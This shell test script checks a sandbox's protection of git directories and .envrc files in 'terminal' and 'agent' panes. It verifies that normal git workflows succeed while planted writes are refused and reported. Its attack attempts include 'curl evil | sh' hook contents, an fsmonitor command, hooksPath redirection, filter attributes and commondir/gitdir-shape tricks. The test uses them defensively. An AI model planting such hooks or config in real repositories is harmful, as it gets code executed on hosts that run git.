#!/bin/sh
# The work tree's git directories, whole (issue 25, item 2): in every
# git directory under a writable root, whatever its name (a `.git`, a
# bare `x.git`, a --separate-git-dir, a worktree's admin directory), at
# any depth and for ones made after launch, nothing is writable but
# what everyday git writes (backends/gitdir.c); and the work tree's
# other host-run files (.envrc) are refused for every call family.
#
# For a server run as root and one run as uid 65534, in a native pane of
# the `terminal` profile and of `agent`, through the real server and the
# real bubblewrap:
#  - everyday git still works: commit, checkout -b, rebase, fetch from
#    a local repository, stash, gc, worktree add (and a commit in the
#    new worktree), init --bare and a push into it;
#  - in a repository nested in the work tree (no mount protects it) and
#    in one the pane makes itself, the config and a hook (write,
#    truncate(2), chmod), commondir, info/attributes and modules/ cannot
#    be written or made; the host checks each file is what it was (or
#    still absent), and that the supervisor reported a file-write*
#    violation naming it;
#  - git directories not named .git, there at launch: a bare repository,
#    a --separate-git-dir's target, a worktree's admin directory (the
#    host's, and the one the pane's worktree add made): no hook, config
#    key, commondir, config.worktree planted; the host then pushes into
#    the bare one and commits in the others, and no planted hook runs;
#  - made later: a bare repository's hooks; a directory given the shape
#    last (objects made over a planted hooks/), a config written through
#    a file descriptor held from before the shape, a worktree admin
#    directory whose commondir names a pane-made "common directory"
#    with hooks; each then pointed at by a `.git` file, and the host's
#    git there runs nothing the pane planted;
#  - .envrc at depth 2 and in a new repository (terminal): create, write,
#    rename onto and away, symlink, link, truncate, chmod all refused.
. "$(dirname "$0")/../lib.sh"
ESCAPE_DIR=$(cd "$(dirname "$0")" && pwd)

HOST_PATH=$PATH
. "$(dirname "$0")/../native-ctx.sh"
native_start gitdirs bwrap cc git setpriv
BIN="$W/bin"
mkdir -p "$BIN"
if ! cc -O1 -o "$BIN/calls" "$ESCAPE_DIR/progs/calls.c" 2>"$W/cc.log"; then
	not_ok "calls.c compiles"
	cat "$W/cc.log"
	finish
fi
CALLS="$BIN/calls"
cat >"$BIN/run" <<'EOF'
sh "$1/$2.sh" >"$3/$2.tmp" 2>&1
echo " rc=$?" >>"$3/$2.tmp"
mv "$3/$2.tmp" "$3/$2"
EOF

hgit() { git -c safe.directory='*' -c user.name=h -c user.email=h@h "$@"; }
populate() {
	WORK="$D/work"
	A="$D/attempts"
	mkdir -p "$WORK/.r" "$A"
	for prof in terminal agent; do
		hgit init -q -b main "$WORK/repo-$prof"
		hgit -C "$WORK/repo-$prof" commit -q --allow-empty -m host
		hgit init -q -b main "$WORK/origin-$prof"
		hgit -C "$WORK/origin-$prof" commit -q --allow-empty -m origin
		N="$WORK/repo-$prof/deep/nested"
		hgit init -q -b main "$N"
		mkdir -p "$N/.git/hooks"
		printf '#!/bin/sh\necho host hook\n' >"$N/.git/hooks/pre-commit"
		chmod 755 "$N/.git/hooks/pre-commit"
		# git directories by another name
		hgit init -q --bare "$WORK/hb-$prof.git"
		hgit init -q -b main --separate-git-dir "$WORK/store-$prof" "$WORK/sep-$prof"
		hgit -C "$WORK/sep-$prof" commit -q --allow-empty -m host
		hgit -C "$WORK/repo-$prof" worktree add -q "$WORK/hwt-$prof" 2>/dev/null
	done
	mkdir -p "$WORK/a/b"
	echo 'echo host envrc' >"$WORK/a/b/.envrc"
	[ "$WHO" = nobody ] && chown -R 65534:65534 "$D"
	chmod 755 "$A"
	chmod 700 "$D/run"
}
# The nested repository's files as the host sees them.
nested_state() {
	for f in config hooks/pre-commit; do
		cksum <"$N/.git/$f"
		stat -c '%a %s' "$N/.git/$f"
	done
	ls -A "$N/.git" "$N/.git/hooks"
}

field_is() { [ "$(pane_field "$1" "$2")" = "$3" ]; }
newest_pane() { sm ls --json | sed -n 's/.*"id":[^0-9]*\([0-9]*\).*/\1/p' | sort -n | tail -1; }
pane_in() {
	sm split -t %1 -v -l 6 --backend native --profile "$1" -c "$WORK" -e PS1='$ ' \
		-e GIT_AUTHOR_NAME=p -e GIT_AUTHOR_EMAIL=p@p -e GIT_COMMITTER_NAME=p \
		-e GIT_COMMITTER_EMAIL=p@p -- /bin/sh >/dev/null 2>&1
	p=$(newest_pane)
	wait_for 10 field_is "$p" state warm
	echo "$p"
}
attempt() {
	n="$NAME-$PROF-$1"
	cat >"$A/$n.sh"
	chmod 644 "$A/$n.sh"
	rm -f "$WORK/.r/$n"
	sm send-keys -t "%$P" "sh $BIN/run $A $n $WORK/.r" Enter
	if wait_for 60 test -f "$WORK/.r/$n"; then
		OUT=$(cat "$WORK/.r/$n")
	else
		OUT="(no result within 60 s)"
	fi
}
absent() { for f in "$@"; do [ ! -e "$f" ] && [ ! -L "$f" ] || return 1; done; }
events() { sm events --json 2>/dev/null | grep '"kind":"violation"' | grep -F "\"pane\":$P,"; }
reported() { events | grep -F '"action":"file-write*"' | grep -qF "\"target\":\"$1\""; }
out_has() { printf '%s\n' "$OUT" | grep -qxF -- "$1"; }

workflow() {
	R="$WORK/repo-$PROF"
	attempt workflow <<EOF
cd $R || exit 1
echo a >a.txt && git add a.txt && git commit -q -m a && echo "commit ok"
git checkout -q -b topic && echo b >b.txt && git add b.txt && git commit -q -m b && echo "checkout -b ok"
git checkout -q main && echo c >c.txt && git add c.txt && git commit -q -m c &&
	git checkout -q topic && git rebase -q main && echo "rebase ok"
git fetch -q $WORK/origin-$PROF main:refs/remotes/origin/main && echo "fetch ok"
echo more >>a.txt && git stash -q && git stash pop -q && echo "stash ok"
git gc -q && echo "gc ok"
git worktree add -q $WORK/wt-$PROF -b wtb && echo "worktree add ok"
git worktree add -q $WORK/wtr-$PROF -b wtrb && git worktree remove $WORK/wtr-$PROF &&
	[ ! -e $WORK/wtr-$PROF ] && [ ! -e .git/worktrees/wtr-$PROF ] && echo "worktree remove ok"
git worktree add -q $WORK/wtp-$PROF -b wtpb && rm -rf $WORK/wtp-$PROF && git worktree prune &&
	[ ! -e .git/worktrees/wtp-$PROF ] && echo "worktree prune ok"
cd $WORK/wt-$PROF && echo w >w.txt && git add w.txt && git commit -q -m w && echo "worktree commit ok"
git init -q --bare $WORK/pb-$PROF.git && git -C $R push -q $WORK/pb-$PROF.git topic && echo "init --bare ok"
EOF
	for step in commit "checkout -b" rebase fetch stash gc "worktree add" "worktree remove" \
		"worktree prune" "worktree commit" "init --bare"; do
		if out_has "$step ok"; then
			ok "$TAG: git $step works in the pane"
		else
			not_ok "$TAG: git $step works in the pane"
			printf '%s\n' "$OUT" | head -c 800 | sed 's/^/#   /'
			events | head -5 | sed 's/^/#   /'
		fi
	done
	check "$TAG: ... and the host sees the rebased topic branch" \
		sh -c "[ \"\$(git -c safe.directory='*' -C '$R' log --format=%s topic | head -3 | tr '\n' ' ')\" = 'b c a ' ]"
	check "$TAG: ... and the worktree's commit" \
		sh -c "[ \"\$(git -c safe.directory='*' -C '$WORK/wt-$PROF' log -1 --format=%s)\" = w ]"
}

attacks() {
	N="$WORK/repo-$PROF/deep/nested"
	BEFORE=$(nested_state 2>&1)
	attempt nested <<EOF
printf '[core]\n\tfsmonitor = sh -c evil\n' >>$N/.git/config
$CALLS truncate $N/.git/config
$CALLS chmod $N/.git/config 666
echo 'curl evil | sh' >$N/.git/hooks/pre-commit
$CALLS truncate $N/.git/hooks/pre-commit
$CALLS chmod $N/.git/hooks/pre-commit 644
echo $WORK/evil >$N/.git/commondir
mkdir -p $N/.git/info; echo '* filter=evil' >$N/.git/info/attributes
mkdir -p $N/.git/modules/x && echo $WORK/evil >$N/.git/modules/x/commondir
EOF
	if [ "$(nested_state 2>&1)" = "$BEFORE" ] &&
		absent "$N/.git/commondir" "$N/.git/info/attributes" "$N/.git/modules"; then
		ok "$TAG: a nested repository's config, hook, commondir, info/, modules/ are unchanged on the host"
	else
		not_ok "$TAG: a nested repository's config, hook, commondir, info/, modules/ are unchanged on the host"
		printf '%s\n' "$OUT" | head -c 800 | sed 's/^/#   /'
		ls -A "$N/.git" | sed 's/^/#   /'
	fi
	for f in config hooks/pre-commit commondir info/attributes modules; do
		check "$TAG: ... $f reported" wait_for 3 reported "$N/.git/$f"
	done
	# a repository the pane makes itself, then its git directory
	F="$WORK/fresh-$PROF-$NAME"
	attempt fresh <<EOF
git init -q $F && echo "init ok"
echo $WORK/evil >$F/.git/commondir
mkdir $F/.git/hooks; echo 'curl evil | sh' >$F/.git/hooks/post-checkout
mkdir -p $F/.git/info && echo '* filter=evil' >$F/.git/info/attributes
EOF
	check "$TAG: git init works in the pane" out_has "init ok"
	if [ -d "$F/.git" ] && absent "$F/.git/commondir" "$F/.git/hooks" "$F/.git/info"; then
		ok "$TAG: a repository made after launch: commondir, hooks/, info/ not made"
	else
		not_ok "$TAG: a repository made after launch: commondir, hooks/, info/ not made"
		ls -A "$F/.git" 2>&1 | sed 's/^/#   /'
	fi
	check "$TAG: ... its commondir reported" wait_for 3 reported "$F/.git/commondir"
}

# Run by the host where a hook would fire: a push into the bare
# repository (post-update), a commit in the others (pre-commit).  Any
# planted hook, or hooksPath, touches $WORK/.pwned.
host_runs_git() {
	hgit -C "$WORK/repo-$PROF" push -q "$WORK/hb-$PROF.git" main 2>/dev/null
	for t in sep hwt wt vic vic2 vic3; do
		hgit -C "$WORK/$t-$PROF" commit -q --allow-empty -m host 2>/dev/null
	done
	[ ! -e "$WORK/.pwned" ]
}
hooks_made() {
	mkdir -p $WORK/evilhooks
	for h in pre-commit post-update; do
		printf '#!/bin/sh\ntouch %s/.pwned\n' "$WORK" >"$WORK/evilhooks/$h"
		chmod 755 "$WORK/evilhooks/$h"
	done
}
# Directories not named .git, there at launch (and the pane's worktree).
others_state() {
	for f in "$HB/config" "$ST/config" "$HW/commondir" "$PW/commondir"; do cksum <"$f"; done
	ls -A "$HB" "$HB/hooks" "$ST" "$ST/hooks" "$HW" "$PW"
}
by_shape() {
	HB="$WORK/hb-$PROF.git" ST="$WORK/store-$PROF"
	HW="$WORK/repo-$PROF/.git/worktrees/hwt-$PROF" PW="$WORK/repo-$PROF/.git/worktrees/wt-$PROF"
	[ -d "$WORK/evilhooks" ] || hooks_made
	BEFORE=$(others_state 2>&1)
	attempt shapes <<EOF
cp $WORK/evilhooks/post-update $HB/hooks/post-update
printf '[core]\n\thooksPath = $WORK/evilhooks\n' >>$HB/config
echo '* filter=evil' >$HB/info/attributes
cp $WORK/evilhooks/pre-commit $ST/hooks/pre-commit
printf '[core]\n\thooksPath = $WORK/evilhooks\n' >>$ST/config
for w in $HW $PW; do
	echo $WORK/evilcommon >\$w/commondir
	printf '[core]\n\thooksPath = $WORK/evilhooks\n' >\$w/config.worktree
	mkdir \$w/hooks
done
EOF
	if [ "$(others_state 2>&1)" = "$BEFORE" ] &&
		absent "$HB/hooks/post-update" "$HB/info/attributes" "$HW/config.worktree" \
			"$PW/config.worktree" "$HW/hooks" "$PW/hooks"; then
		ok "$TAG: a bare repository, a separate git dir, worktree admin dirs: unchanged on the host"
	else
		not_ok "$TAG: a bare repository, a separate git dir, worktree admin dirs: unchanged on the host"
		printf '%s\n' "$OUT" | head -c 800 | sed 's/^/#   /'
	fi
	for f in "$HB/hooks/post-update" "$HB/config" "$HB/info/attributes" "$ST/hooks/pre-commit" \
		"$ST/config" "$HW/commondir" "$HW/config.worktree" "$PW/commondir" "$PW/config.worktree"; do
		check "$TAG: ... ${f#"$WORK/"} reported" wait_for 3 reported "$f"
	done
}
made_later() {
	E="$WORK/ev-$PROF" E2="$WORK/ev2-$PROF" C="$WORK/evc-$PROF" AD="$WORK/adm-$PROF"
	PB="$WORK/pb-$PROF.git"
	attempt later <<EOF
cp $WORK/evilhooks/post-update $PB/hooks/post-update || { mkdir $PB/hooks && cp $WORK/evilhooks/post-update $PB/hooks/; }
mkdir -p $E/hooks $E/refs && cp $WORK/evilhooks/pre-commit $E/hooks/
echo 'ref: refs/heads/main' >$E/HEAD
mkdir $E/objects
mkdir $WORK/vic-$PROF && echo "gitdir: $E" >$WORK/vic-$PROF/.git && echo "gitfile ok"
mkdir -p $E2/refs && echo 'ref: refs/heads/main' >$E2/HEAD
exec 3>>$E2/config
printf '[core]\n\tbare = false\n' >&3
mkdir $E2/objects && echo "shape ok"
printf '\thooksPath = $WORK/evilhooks\n' >&3
exec 3>&-
mkdir $WORK/vic2-$PROF && echo "gitdir: $E2" >$WORK/vic2-$PROF/.git
mkdir -p $C/hooks $C/objects && cp $WORK/evilhooks/pre-commit $C/hooks/
mkdir $C/refs
mkdir $AD && echo 'ref: refs/heads/main' >$AD/HEAD && echo $C >$AD/commondir && echo "admin ok"
mkdir $WORK/vic3-$PROF && echo "gitdir: $AD" >$WORK/vic3-$PROF/.git
EOF
	check "$TAG: a .git file can be made" out_has "gitfile ok"
	check "$TAG: a directory takes the shape while it holds only what git puts there" out_has "shape ok"
	check "$TAG: ... a worktree admin directory too" out_has "admin ok"
	check "$TAG: the host's push and commits run no hook the pane planted" host_runs_git
	if absent "$PB/hooks/post-update" "$E/objects" "$C/refs" &&
		! grep -qi hookspath "$E2/config"; then
		ok "$TAG: made later: no bare hook, no shape over planted hooks, no config through a held fd"
	else
		not_ok "$TAG: made later: no bare hook, no shape over planted hooks, no config through a held fd"
		printf '%s\n' "$OUT" | head -c 800 | sed 's/^/#   /'
		ls -A "$E" "$C" "$PB" 2>&1 | sed 's/^/#   /'
		cat "$E2/config" | sed 's/^/#   /'
	fi
	check "$TAG: ... a bare repository's new hook reported" wait_for 3 reported "$PB/hooks"
	check "$TAG: ... the shape over hooks/ reported" wait_for 3 reported "$E/objects"
	check "$TAG: ... the common dir's shape over hooks/ reported" wait_for 3 reported "$C/refs"
}
# A worktree admin directory whose commondir the pane removed (as git
# worktree remove does) is still no place for hooks or a
# config.worktree (its name under .git/worktrees/ holds it, and, past
# that, the birth rule when commondir comes back): nothing planted, and
# the host's git there runs nothing.
regrow() {
	WA="$WORK/repo-$PROF/.git/worktrees/wtg-$PROF"
	rm -f "$WORK/.pwned"
	attempt regrow <<EOF
git -C $WORK/repo-$PROF worktree add -q $WORK/wtg-$PROF -b wtgb && echo "add ok"
rm $WA/commondir && echo "commondir removed"
mkdir $WA/hooks && cp $WORK/evilhooks/pre-commit $WA/hooks/
printf '[core]\n\thooksPath = $WORK/evilhooks\n' >$WA/config.worktree
echo ../.. >$WA/commondir
EOF
	check "$TAG: a worktree's commondir may be removed" out_has "commondir removed"
	hgit -C "$WORK/wtg-$PROF" commit -q --allow-empty -m host >/dev/null 2>&1
	if absent "$WA/hooks" "$WA/config.worktree" "$WORK/.pwned"; then
		ok "$TAG: ... but no hooks or config.worktree then: the host's git there runs nothing"
	else
		not_ok "$TAG: ... but no hooks or config.worktree then: the host's git there runs nothing"
		printf '%s\n' "$OUT" | head -c 800 | sed 's/^/#   /'
	fi
	check "$TAG: ... the planted config.worktree reported" wait_for 3 reported "$WA/config.worktree"
}
envrc_state() {
	cksum <"$WORK/a/b/.envrc"
	stat -c '%a %s' "$WORK/a/b/.envrc"
}
envrc() {
	G="$WORK/envrc-repo-$NAME"
	BEFORE=$(envrc_state 2>&1)
	attempt envrc <<EOF
git init -q $G && echo "init ok"
mkdir -p $WORK/c/d && echo x >$WORK/envrc-src
echo evil >$WORK/c/d/.envrc
echo evil >$G/.envrc
echo evil >>$WORK/a/b/.envrc
mv $WORK/envrc-src $WORK/a/b/.envrc
mv $WORK/a/b/.envrc $WORK/envrc-away
ln -s $WORK/envrc-src $G/.envrc
ln $WORK/envrc-src $WORK/c/d/.envrc
$CALLS truncate $WORK/a/b/.envrc
$CALLS chmod $WORK/a/b/.envrc 666
EOF
	check "$TAG: .envrc: git init works" out_has "init ok"
	if [ "$(envrc_state 2>&1)" = "$BEFORE" ] && absent "$WORK/c/d/.envrc" "$G/.envrc" "$WORK/envrc-away"; then
		ok "$TAG: .envrc at depth 2 and in a new repository: create, write, rename, symlink, link, truncate, chmod refused"
	else
		not_ok "$TAG: .envrc at depth 2 and in a new repository: create, write, rename, symlink, link, truncate, chmod refused"
		printf '%s\n' "$OUT" | head -c 800 | sed 's/^/#   /'
	fi
	for f in "$WORK/c/d/.envrc" "$G/.envrc" "$WORK/a/b/.envrc"; do
		check "$TAG: ... ${f#"$WORK/"} reported" wait_for 3 reported "$f"
	done
}

for who in root nobody; do
	ctx "$who" "$who"
	populate
	sm new -d -s git -x 200 -y 60 -c "$WORK" -- /bin/sh >/dev/null
	for PROF in terminal agent; do
		TAG="$NAME/$PROF"
		P=$(pane_in "$PROF")
		if ! field_is "$P" backend native; then
			not_ok "$TAG: a native pane starts ($(pane_field "$P" reason))"
			continue
		fi
		workflow
		attacks
		by_shape
		made_later
		regrow
		[ "$PROF" = terminal ] && envrc
	done
	sm kill-server >/dev/null 2>&1
done
finish
